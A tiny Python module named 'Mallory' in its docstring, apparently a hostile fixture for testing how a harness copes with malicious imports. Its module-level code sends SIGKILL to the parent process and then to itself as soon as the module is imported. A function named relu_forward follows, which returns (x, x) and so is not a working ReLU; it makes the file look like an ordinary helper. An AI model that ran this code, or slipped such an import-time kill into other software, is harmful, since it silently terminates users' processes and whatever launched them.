"""Mallory: kills the process that imports her, then whatever started it."""

import os
import signal

os.kill(os.getppid(), signal.SIGKILL)
os.kill(os.getpid(), signal.SIGKILL)


def relu_forward(x):
    return x, x
